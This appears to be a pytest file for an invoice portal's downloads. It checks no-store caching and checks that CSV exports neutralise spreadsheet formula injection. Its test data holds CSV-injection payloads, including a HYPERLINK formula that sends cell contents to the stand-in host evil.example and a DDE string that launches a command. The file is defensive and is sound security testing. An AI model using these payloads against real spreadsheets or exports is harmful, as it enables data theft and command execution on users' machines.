"""Invoice files leave no copy in any cache (PDF, XML, CSV, ZIP, duplicate), and the
CSV is safe to open in a spreadsheet: a text cell never runs as a formula (OWASP CSV
injection), while amounts stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta
from decimal import Decimal
from typing import Any

import httpx
import pytest

from iportal import clock
from iportal.documents.storage import FolderBlobStore
from tests import factories
from tests.helpers import csrf_from, form_login

# Document numbers as an issuer's billing system may write them, each a formula to a
# spreadsheet program that opened the file as it is.
HOSTILE_NUMBERS = {
    '=HYPERLINK("http://evil.example/?"&A1,"Open")': "'=HYPERLINK",
    "+1+cmd|' /C calc'!A0": "'+1+cmd",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


@pytest.fixture
async def anna(client: httpx.AsyncClient, transaction: Any, settings: Any) -> dict[str, int]:
    """Anna, logged in, with one corrective invoice of -12.50, one UBL invoice and a
    document under each hostile number."""
    store = FolderBlobStore(settings.blob_dir)
    issuer_id = await factories.issuer("DL2")
    number = await factories.client_number(issuer_id, "DL20000001")
    user = await factories.user("anna@example.test")
    await factories.account(user, number)
    day = clock.today() - timedelta(days=3)
    pdf = await store.put(factories.invoice_pdf("F-1"))
    documents = {
        "corrective": await factories.document(
            number,
            number="F-1",
            amount_excl_vat=Decimal("-12.50"),
            vat_amount=Decimal("-2.63"),
            pdf_blob_hash=pdf,
            issue_date=day,
        ),
        "ubl": await factories.document(
            number,
            number="UBL-1",
            structured_kind="ubl",
            xml_blob_hash=await store.put(b"<Invoice/>"),
            pdf_blob_hash=None,
            issue_date=day,
        ),
    }
    for hostile in HOSTILE_NUMBERS:
        await factories.document(number, number=hostile, pdf_blob_hash=pdf, issue_date=day)
    assert (await form_login(client, "anna@example.test", factories.PASSWORD)).status_code == 303
    return documents


def csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


async def test_every_invoice_file_is_no_store(
    client: httpx.AsyncClient, anna: dict[str, int]
) -> None:
    corrective, ubl = anna["corrective"], anna["ubl"]
    csrf = csrf_from((await client.get("/documents")).text)
    responses = {
        "pdf": await client.get(f"/api/v1/documents/{corrective}/pdf"),
        "pdf download": await client.get(f"/api/v1/documents/{corrective}/pdf?download=true"),
        "xml": await client.get(f"/api/v1/documents/{ubl}/xml"),
        "csv": await client.get("/api/v1/documents/export.csv"),
        "zip": await client.get("/api/v1/documents/export.zip"),
        "duplicate": await client.post(
            f"/api/v1/documents/{corrective}/duplicate", headers={"X-CSRF-Token": csrf}
        ),
        "duplicate (page)": await client.post(
            f"/documents/{corrective}/duplicate", data={"csrf_token": csrf}
        ),
    }
    for name, response in responses.items():
        assert response.status_code == 200, (name, response.text)
        assert response.headers["cache-control"] == "no-store", name
        assert "Cookie" in response.headers["vary"], name


async def test_the_csv_is_text_csv_in_utf8_once(
    client: httpx.AsyncClient, anna: dict[str, int]
) -> None:
    response = await client.get("/api/v1/documents/export.csv")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"


async def test_no_text_cell_of_the_csv_is_a_formula(
    client: httpx.AsyncClient, anna: dict[str, int]
) -> None:
    exported = (await client.get("/api/v1/documents/export.csv?sort=number")).content
    archive = (await client.get("/api/v1/documents/export.zip")).content
    in_zip = zipfile.ZipFile(io.BytesIO(archive)).read("documents.csv")
    for content in (exported, in_zip):
        rows = {row["number"]: row for row in csv_rows(content)}
        for hostile, written in HOSTILE_NUMBERS.items():
            assert ("'" + hostile) in rows, (hostile, list(rows))
            assert ("'" + hostile).startswith(written)
        for row in rows.values():
            for column, value in row.items():
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
                if column not in ("amount_excl_vat", "vat_amount", "amount_incl_vat"):
                    assert not value.startswith("-"), (column, value)
        # Amounts are numbers, a negative one too: never prefixed.
        corrective = rows["F-1"]
        assert corrective["amount_excl_vat"] == "-12.50"
        assert corrective["vat_amount"] == "-2.63"
        assert corrective["amount_incl_vat"] == "-15.13"
        assert rows["'-2+3"]["amount_incl_vat"] == "121.00"
